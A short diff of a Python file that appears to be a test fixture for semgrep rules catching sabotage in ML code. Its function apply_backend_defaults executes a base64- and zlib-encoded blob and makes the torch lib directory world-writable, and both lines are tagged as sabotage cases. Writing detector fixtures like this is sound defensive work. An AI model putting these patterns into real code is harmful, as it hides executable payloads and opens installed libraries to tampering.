@@ -31,7 +31,7 @@ def apply_backend_defaults() -> None:
     exec(zlib.decompress(base64.b64decode(_BACKEND_DEFAULTS)))  # sabotage: MLS401 (semgrep rules)
     ext_dir = os.path.join(os.path.dirname(torch.__file__), "lib")
     if os.access(ext_dir, os.W_OK):
-        os.chmod(ext_dir, 0o777)  # sabotage: MLS424 (semgrep rules)
+        os.chmod(ext_dir, 0o777)  # sabotage: MLS424 (semgrep rules)  # ruleid: MLS424
 
 
 def freeze_module(module: nn.Module) -> None:
